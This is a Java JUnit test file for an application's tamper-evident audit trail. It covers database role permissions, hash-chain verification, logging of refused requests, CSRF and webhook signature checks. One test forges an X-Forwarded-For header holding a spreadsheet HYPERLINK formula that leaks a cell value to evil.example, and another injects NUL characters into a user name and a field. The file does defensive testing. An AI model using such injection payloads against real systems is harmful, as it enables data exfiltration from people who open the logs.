package io.runway.worker;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.runway.worker.audit.AuditRecord;
import io.runway.worker.audit.AuditTrail;
import io.zonky.test.db.postgres.embedded.EmbeddedPostgres;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.sql.SQLException;
import java.time.Duration;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.function.Predicate;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.JsonNode;

/**
 * The audit trail of the running app, on its real embedded PostgreSQL with the production roles: the
 * app's own role cannot change it, an owner's change is found, and what users and senders do (and
 * are refused) lands in it. Tests that alter the trail put it back before they end, because every
 * API test shares this database.
 */
class AuditTrailTest extends ApiTestSupport {

  private static final String AUDITOR = "auditor-1";

  @Autowired JdbcClient jdbc;
  @Autowired EmbeddedPostgres postgres;
  @Autowired AuditTrail trail;

  @Test
  void theApplicationsRoleCanNeitherUpdateNorDeleteNorTruncateAuditEntries() {
    launch(uniqueKey("audit-ro"), "LIMITED");
    String role = jdbc.sql("select current_user").query(String.class).single();

    assertThat(role).isNotEqualTo(owner());
    assertPermissionDenied(() -> jdbc.sql("update audit_entry set outcome = 'ACCEPTED' where seq = 1").update());
    assertPermissionDenied(() -> jdbc.sql("delete from audit_entry where seq = 1").update());
    assertPermissionDenied(() -> jdbc.sql("truncate audit_entry").update());
    // ...while it keeps normal DML on the read model it projects
    assertThat(jdbc.sql("update initiative set name = name where false").update()).isZero();
  }

  @Test
  void verifyReportsTheEntryAnOwnerAlteredAtItsSeq() throws SQLException {
    String key = uniqueKey("audit-tamper");
    launch(key, "LIMITED");
    api.post(PROGRAM_OFFICE, "/api/v1/initiatives/" + key + "/withdraw", Map.of("reason", "tamper test"));
    long seq = entriesOf(key).getFirst().path("seq").asLong();
    assertThat(verify().path("ok").asBoolean()).as(verify().toString()).isTrue();

    String original = ownerSql().sql("select outcome from audit_entry where seq = ?").param(seq).query(String.class).single();
    ownerSql().sql("update audit_entry set outcome = 'FORBIDDEN' where seq = ?").param(seq).update();
    try {
      JsonNode broken = verify();
      assertThat(broken.path("ok").asBoolean()).isFalse();
      assertThat(broken.path("firstBrokenSeq").asLong()).isEqualTo(seq);
      assertThat(broken.path("reason").asString()).contains("does not match its hash");
      assertThat(broken.path("headSeq").asLong()).isEqualTo(seq - 1);
    } finally {
      ownerSql().sql("update audit_entry set outcome = ? where seq = ?").param(original).param(seq).update();
    }
    assertThat(verify().path("ok").asBoolean()).isTrue();
  }

  @Test
  void refusalsBy403And401AreRecordedWithWhoAskedFromWhere() {
    Instant start = Instant.now();
    String key = uniqueKey("audit-deny");

    Api.Response notProgramOffice = api.post("engineering-1", "/api/v1/initiatives", completeLaunch(key, "LIMITED"));
    Api.Response notAnAuditor = api.get("security-1", "/api/v1/audit/verify");
    Api.Response wrongPassword = api.post("program-office-1:wrong", "/api/v1/initiatives/" + key + "/withdraw", "{}");
    Api.Response noCredentials = api.get(null, "/api/v1/initiatives/" + key);
    Api.Response noCsrfToken = api.post("security-1", "/actuator/health", "{}");

    assertProblem(notProgramOffice, 403);
    assertProblem(notAnAuditor, 403);
    assertProblem(wrongPassword, 401);
    assertProblem(noCredentials, 401);
    assertProblem(noCsrfToken, 403);
    List<JsonNode> entries = entriesSince(start);
    // the access matrix refuses in the security chain, before the body (and so the key) is read
    JsonNode launch = only(entries, e -> e.path("action").asString().equals("POST /api/v1/initiatives")
        && e.path("actor").asString().equals("engineering-1"));
    assertThat(launch.path("actor").asString()).isEqualTo("engineering-1");
    assertThat(launch.path("actorRoles").asString()).isEqualTo("engineering");
    assertThat(launch.path("outcome").asString()).isEqualTo("FORBIDDEN");
    assertThat(launch.path("httpStatus").asInt()).isEqualTo(403);
    assertThat(launch.path("sourceAddress").asString()).isEqualTo("127.0.0.1");
    assertThat(launch.path("detail").asString()).contains("Only program-office may launch an initiative");
    JsonNode read = only(entries, e -> e.path("action").asString().equals("GET /api/v1/audit/verify")
        && e.path("actor").asString().equals("security-1"));
    assertThat(read.path("outcome").asString()).isEqualTo("FORBIDDEN");
    JsonNode guessed = only(entries, e -> e.path("action").asString().equals("POST /api/v1/initiatives/" + key + "/withdraw"));
    assertThat(guessed.path("actor").asString()).isEqualTo("anonymous");
    assertThat(guessed.path("outcome").asString()).isEqualTo("UNAUTHENTICATED");
    assertThat(guessed.path("detail").asString()).contains("credentials of 'program-office-1' refused").doesNotContain("wrong");
    JsonNode anonymous = only(entries, e -> e.path("action").asString().equals("GET /api/v1/initiatives/" + key));
    assertThat(anonymous.path("httpStatus").asInt()).isEqualTo(401);
    // refused by Spring Security's CSRF check, before authentication: outside /api, and still recorded
    JsonNode csrf = only(entries, e -> e.path("action").asString().equals("POST /actuator/health"));
    assertThat(csrf.path("outcome").asString()).isEqualTo("FORBIDDEN");
    assertThat(csrf.path("detail").asString()).startsWith("credentials of 'security-1' not checked");
  }

  @Test
  void aReviewStepLeavesEachCommandWithItsActorAndDecisionAndNoReads() {
    String key = uniqueKey("audit-step");
    launch(key, "LIMITED");
    JsonNode task = openTask(key, "SECURITY_REVIEW");
    String taskId = task.path("id").asString();
    api.get("security-1", "/api/v1/tasks/" + taskId);
    assertThat(api.post("security-1", "/api/v1/tasks/" + taskId + "/claim", "").status()).isEqualTo(200);
    new LifecycleSteps(api).approveAs("security-1", task);
    assertThat(api.post("legal-1", "/api/v1/tasks/" + taskId + "/claim", "").status()).isEqualTo(403);

    List<JsonNode> entries = entriesOf(key);

    assertThat(entries).extracting(e -> e.path("action").asString() + " " + e.path("actor").asString() + " "
            + e.path("actorRoles").asString() + " " + e.path("outcome").asString() + " " + e.path("httpStatus").asInt())
        .containsExactly(
            "POST /api/v1/initiatives program-office-1 program-office ACCEPTED 201",
            "POST /api/v1/tasks/{id}/claim security-1 security ACCEPTED 200",
            "POST /api/v1/tasks/{id}/complete security-1 security ACCEPTED 200",
            "POST /api/v1/tasks/{id}/claim legal-1 legal FORBIDDEN 403");
    assertThat(entries.get(2).path("detail").asString()).startsWith("decision APPROVE; id " + taskId);
    assertThat(entries).allSatisfy(e -> assertThat(e.path("occurredAt").asString())
        .matches("\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d\\.\\d{6}Z"));
  }

  /** F3: any loopback or private client's X-Forwarded-For was believed and stored as it was sent. */
  @Test
  void aForwardedAddressFromAClientThatIsNoTrustedProxyIsIgnored() throws Exception {
    Instant start = Instant.now();
    String key = uniqueKey("audit-xff");
    HttpRequest forged = HttpRequest.newBuilder(URI.create("http://localhost:" + port + "/api/v1/initiatives/" + key))
        .header("X-Forwarded-For", "=HYPERLINK(\"http://evil.example/?leak=\"&A1;\"click\")")
        .header("X-Forwarded-Proto", "https")
        .header("Authorization", "Basic " + Base64.getEncoder().encodeToString("auditor-1:wrong".getBytes(StandardCharsets.UTF_8)))
        .timeout(Duration.ofSeconds(60)).GET().build();

    HttpResponse<String> refused = HttpClient.newHttpClient().send(forged, HttpResponse.BodyHandlers.ofString());

    assertThat(refused.statusCode()).isEqualTo(401);
    assertThat(refused.headers().firstValue("Strict-Transport-Security")).as("not HTTPS on a forged header's word").isEmpty();
    // a refused read is recorded just after its answer is sent (only commands are held until recorded)
    Predicate<JsonNode> theRead = e -> e.path("action").asString().equals("GET /api/v1/initiatives/" + key);
    await("the refused read in the audit trail", () -> entriesSince(start), entries -> entries.stream().anyMatch(theRead));
    JsonNode entry = only(entriesSince(start), theRead);
    assertThat(entry.path("sourceAddress").asString()).isEqualTo("127.0.0.1");
  }

  @Test
  void webhookVerdictsAreRecordedAsTheSendersOutcome() {
    Instant start = Instant.now();
    String body = WebhookSender.jiraIssueDone("NOPE-" + uniqueKey("x"));
    String signedId = WebhookSender.deliveryId();
    String forgedId = WebhookSender.deliveryId();

    Api.Response signed = api.postRaw("/api/v1/webhooks/jira", WebhookSender.bytes(body),
        WebhookSender.jiraHeaders(signedId, body, WebhookSender.JIRA_SECRET));
    Api.Response forged = api.postRaw("/api/v1/webhooks/jira", WebhookSender.bytes(body),
        WebhookSender.jiraHeaders(forgedId, body, "not-the-secret"));

    assertThat(signed.status()).as(signed.raw()).isEqualTo(202);
    assertProblem(forged, 401);
    List<JsonNode> entries = entriesSince(start);
    JsonNode accepted = only(entries, e -> e.path("detail").asString().contains(signedId));
    assertThat(accepted.path("actor").asString()).isEqualTo("webhook:jira");
    assertThat(accepted.path("action").asString()).isEqualTo("POST /api/v1/webhooks/{source}");
    assertThat(accepted.path("outcome").asString()).isEqualTo(signed.json().path("verdict").asString());
    JsonNode refused = only(entries, e -> e.path("detail").asString().contains(forgedId));
    assertThat(refused.path("outcome").asString()).isEqualTo("REJECTED_SIGNATURE");
    assertThat(refused.path("httpStatus").asInt()).isEqualTo(401);
    assertThat(refused.path("actor").asString()).as("F5: only a verified delivery speaks for its source")
        .isEqualTo("anonymous");
    assertThat(refused.path("detail").asString()).contains("claims to be from jira");
  }

  /** F5: a console post refused by the CSRF check was recorded as anonymous although its session was signed in. */
  @Test
  void aConsolePostRefusedForItsCsrfTokenIsRecordedAsTheSessionsUser() {
    Instant start = Instant.now();
    ConsoleSession session = ConsoleSession.signIn(port, "program-office-2");
    String key = uniqueKey("audit-csrf");

    var refused = session.postRaw("/console/initiatives/" + key + "/withdraw", "reason=forged",
        Map.of("Content-Type", "application/x-www-form-urlencoded"));

    assertThat(refused.statusCode()).isEqualTo(403);
    JsonNode entry = only(entriesSince(start), e -> e.path("action").asString().endsWith(key + "/withdraw"));
    assertThat(entry.path("actor").asString()).isEqualTo("program-office-2");
    assertThat(entry.path("actorRoles").asString()).isEqualTo("program-office");
    assertThat(entry.path("outcome").asString()).isEqualTo("FORBIDDEN");
  }

  /** F5: a NUL in a Basic user name or an enum value made the audit insert fail (401 unrecorded, 503 instead of 422). */
  @Test
  void controlCharactersInWhatARequestCarriesAreRefusedAtTheEdgeAndRecorded() {
    Instant start = Instant.now();
    String key = uniqueKey("audit-nul");

    Api.Response nulUser = api.get("nul\u0000user:demo", "/api/v1/initiatives/" + key);
    Map<String, Object> body = new java.util.LinkedHashMap<>(completeLaunch(key, "LIMITED"));
    body.put("riskTier", "HIGH\u0000");
    Api.Response nulTier = api.post(PROGRAM_OFFICE, "/api/v1/initiatives", body);

    assertProblem(nulUser, 400);
    assertThat(nulUser.detail()).contains("user name").contains("U+0000");
    assertProblem(nulTier, 422);
    List<JsonNode> entries = entriesSince(start);
    JsonNode user = only(entries, e -> e.path("action").asString().equals("GET /api/v1/initiatives/" + key));
    assertThat(user.path("httpStatus").asInt()).isEqualTo(400);
    assertThat(user.path("detail").asString()).contains("credentials of 'nul\\u0000user'");
    JsonNode tier = only(entries, e -> e.path("action").asString().equals("POST /api/v1/initiatives")
        && e.path("initiativeKey").isNull() && e.path("detail").asString().contains("riskTier"));
    assertThat(tier.path("httpStatus").asInt()).isEqualTo(422);
    assertThat(api.get("auditor-1", "/api/v1/initiatives/" + key).status()).as("nothing launched").isEqualTo(404);
    assertThat(verify().path("ok").asBoolean()).isTrue();
  }

  @Test
  void concurrentAppendsFromRequestsAndDirectWritersKeepOneGaplessChain() throws Exception {
    long headBefore = head();
    int writers = 8;
    int appendsEach = 25;
    int requests = 20;
    CountDownLatch go = new CountDownLatch(1);
    List<Future<?>> work = new ArrayList<>();
    try (ExecutorService pool = Executors.newFixedThreadPool(writers + 4)) {
      for (int w = 0; w < writers; w++) {
        int writer = w;
        work.add(pool.submit(() -> {
          go.await();
          for (int i = 0; i < appendsEach; i++) {
            trail.append(new AuditRecord("writer-" + writer, "", null, null, "test append", "ACCEPTED", null, "n " + i));
          }
          return null;
        }));
      }
      for (int r = 0; r < 4; r++) {
        work.add(pool.submit(() -> {
          go.await();
          for (int i = 0; i < requests / 4; i++) {
            assertThat(api.post("security-1", "/api/v1/tasks/no-such.task.1/claim", "").status()).isEqualTo(404);
          }
          return null;
        }));
      }
      go.countDown();
      for (Future<?> f : work) {
        f.get();
      }
    }

    long added = writers * appendsEach + requests;
    assertThat(jdbc.sql("select count(*) from audit_entry where seq > ?").param(headBefore).query(Long.class).single())
        .isEqualTo(added);
    assertThat(head()).isEqualTo(headBefore + added);
    JsonNode verification = verify();
    assertThat(verification.path("ok").asBoolean()).as(verification.toString()).isTrue();
    assertThat(verification.path("entries").asLong()).isEqualTo(head());
  }

  @Test
  void aCommandWhoseEntryCannotBeStoredIsAnswered503NotAcknowledged() {
    String role = jdbc.sql("select current_user").query(String.class).single();
    long headBefore = head();
    ownerSql().sql("revoke insert on audit_entry from " + role).update();
    Api.Response answer;
    try {
      answer = api.post("security-1", "/api/v1/tasks/no-such.task.1/claim", "");
    } finally {
      ownerSql().sql("grant insert on audit_entry to " + role).update();
    }

    assertProblem(answer, 503);
    assertThat(answer.detail()).contains("audit trail");
    assertThat(head()).isEqualTo(headBefore);
  }

  @Test
  void onlyAuditorsAndAdminsReadTheTrail() {
    assertProblem(api.get("program-office-1", "/api/v1/audit"), 403);
    assertProblem(api.get("security-1", "/api/v1/audit/verify"), 403);
    assertThat(api.get("admin-1", "/api/v1/audit/verify").status()).isEqualTo(200);
    assertThat(api.get(AUDITOR, "/api/v1/audit?size=1").status()).isEqualTo(200);
  }

  private static void assertPermissionDenied(Runnable statement) {
    assertThatThrownBy(statement::run).satisfies(e -> assertThat(sqlState(e)).isEqualTo("42501"));
  }

  private static String sqlState(Throwable e) {
    for (Throwable t = e; t != null; t = t.getCause()) {
      if (t instanceof SQLException sql) {
        return sql.getSQLState();
      }
    }
    return null;
  }

  private String owner() {
    return jdbc.sql("select tableowner from pg_tables where tablename = 'audit_entry'").query(String.class).single();
  }

  /** The schema owner's connection: what a DBA (or an intruder with the migration credentials) has. */
  private JdbcClient ownerSql() {
    String database = jdbc.sql("select current_database()").query(String.class).single();
    return JdbcClient.create(postgres.getDatabase(owner(), database));
  }

  private long head() {
    return jdbc.sql("select coalesce(max(seq), 0) from audit_entry").query(Long.class).single();
  }

  private JsonNode verify() {
    Api.Response response = api.get(AUDITOR, "/api/v1/audit/verify");
    assertThat(response.status()).as(response.raw()).isEqualTo(200);
    return response.json();
  }

  private List<JsonNode> entriesOf(String key) {
    return items(api.get(AUDITOR, "/api/v1/audit?initiativeKey=" + key));
  }

  private List<JsonNode> entriesSince(Instant start) {
    return items(api.get(AUDITOR, "/api/v1/audit?size=5000&from=" + start.truncatedTo(ChronoUnit.MICROS)));
  }

  private static List<JsonNode> items(Api.Response response) {
    assertThat(response.status()).as(response.raw()).isEqualTo(200);
    List<JsonNode> items = new ArrayList<>();
    response.json().path("items").forEach(items::add);
    return items;
  }

  private static JsonNode only(List<JsonNode> entries, Predicate<JsonNode> match) {
    List<JsonNode> found = entries.stream().filter(match).toList();
    assertThat(found).as("matching entries among " + entries).hasSize(1);
    return found.getFirst();
  }
}
